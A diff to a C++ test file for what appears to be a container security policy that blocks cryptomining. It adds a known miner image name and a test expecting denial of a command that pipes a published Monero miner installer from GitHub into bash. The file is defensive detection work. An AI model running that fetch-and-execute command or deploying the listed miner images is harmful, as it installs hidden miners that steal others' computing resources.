@@ -105,7 +105,7 @@ TEST(MinerImageTest, MatchesRepositoryWhateverRegistryTagOrDigest) {
         "quay.io/x/xmr-stak:1", "cpuminer-opt", "lolminer:1.88", "a/t-rex:0.26",
         "docker.io/gakeaws/nginx:v8", "pocosow/centos:7", "XMRig/XMRig:latest",
         "localhost:5000/nbminer", "docker.io/docker123321/tomcat:latest", "vibersastra/golang:1",
-        "arayan/monero-miner", "index.docker.io/alpineos/dockerapi:2"}) {
+        "arayan/monero-miner", "index.docker.io/alpineos/dockerapi:2", "ddsfdfsaadfs/dfsdf:99"}) {
     SCOPED_TRACE(image);
     TestContainer c;
     c.image = image;
@@ -162,6 +162,13 @@ TEST(MinerBinaryTest, RenamedMalwareNames) {
 TEST(MinerBinaryTest, InsideShellScripts) {
   ExpectDenied(WithCommand({"sh", "-c", "cd /tmp && ./xmrig --config=c.json"}), "miner-binary");
   ExpectDenied(WithCommand({"/bin/bash", "-ec", "apt-get update; exec t-rex -a kawpow"}),
+               "miner-binary");
+}
+
+TEST(MinerBinaryTest, PublishedInstallerPipedIntoBash) {
+  ExpectDenied(WithCommand({"bash", "-c",
+                            "curl -s -L https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/"
+                            "master/setup_moneroocean_miner.sh | bash -s 4AMASi45"}),
                "miner-binary");
 }
 
